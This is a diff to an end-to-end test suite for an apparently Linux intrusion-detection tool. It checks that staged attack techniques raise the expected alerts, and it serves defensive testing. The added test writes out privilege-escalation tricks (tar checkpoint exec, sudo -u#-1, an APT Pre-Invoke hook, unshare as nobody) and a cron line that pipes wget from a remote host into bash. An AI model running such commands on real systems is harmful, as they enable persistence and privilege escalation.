@@ -7,7 +7,9 @@
  * - a program named auditd killed with SIGKILL;
  * - curl piped to sh from a local HTTP server;
  * - a file dropped in /tmp and executed;
- * - a cron persistence write (/etc/cron.d);
+ * - a cron persistence write (/etc/cron.d), and one whose line downloads and runs code;
+ * - tar's checkpoint action running a program, sudo asked for user id -1, apt-get given a hook
+ *   on its command line, a user namespace mapped to root by nobody;
  * - a systemd unit made as a symbolic link to a file in /tmp;
  * - /etc/shadow read by a script (python3), not a login or account tool;
  * - SSH password guessing against a real sshd, then a login from the same address (the agent's
@@ -295,6 +297,34 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
       assert.equal(alert.rule.severity, 'critical');
     } finally {
       rmSync(suid, { recursive: true, force: true });
+    }
+  });
+
+  it('a tar checkpoint shell, sudo -u#-1, an APT hook on the command line, a user namespace by nobody and a cron line that downloads each raise their alert', async () => {
+    const since = new Date().toISOString();
+    const tolerant = (file: string, args: string[]) => run(file, args, { timeout: 10_000 }).catch(() => undefined);
+    await tolerant('/usr/bin/tar', ['-cf', '/dev/null', '--checkpoint=1', '--checkpoint-action=exec=/bin/true', '/dev/null']);
+    // A patched sudo refuses the user id; the attempt is what is reported.
+    await tolerant('/usr/bin/sudo', ['-n', '-u#-1', '/bin/true']);
+    await tolerant('/usr/bin/apt-get', ['-o', 'APT::Update::Pre-Invoke::=/bin/true', '--version']);
+    // Whether or not this kernel lets an unprivileged user make a user namespace.
+    await tolerant('/usr/bin/setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', '/usr/bin/unshare', '-Ur', '/bin/true']);
+    const line = `*/5 * * * * root wget -q -O- http://203.0.113.9/s-${process.pid} | bash`;
+    try {
+      await run('/bin/sh', ['-c', `echo '${line}' > ${cronFile}`], { timeout: 10_000 });
+      const expected: [rule: string, severity: string, text: string][] = [
+        ['shell_spawned_through_program_option', 'high', '--checkpoint-action=exec=/bin/true'],
+        ['sudo_exploit_attempt', 'high', '-u#-1'],
+        ['package_manager_hook_on_command_line', 'high', 'APT::Update::Pre-Invoke::=/bin/true'],
+        ['user_namespace_root_by_unprivileged_user', 'medium', 'unshare -Ur'],
+        ['cron_job_runs_download_or_shell', 'high', `s-${process.pid}`],
+      ];
+      for (const [rule, severity, text] of expected) {
+        const alert = await waitForAlert(rule, since, (a) => a.rule.id === rule && mentions(a, text));
+        assert.equal(alert.rule.severity, severity, rule);
+      }
+    } finally {
+      rmSync(cronFile, { force: true });
     }
   });
 
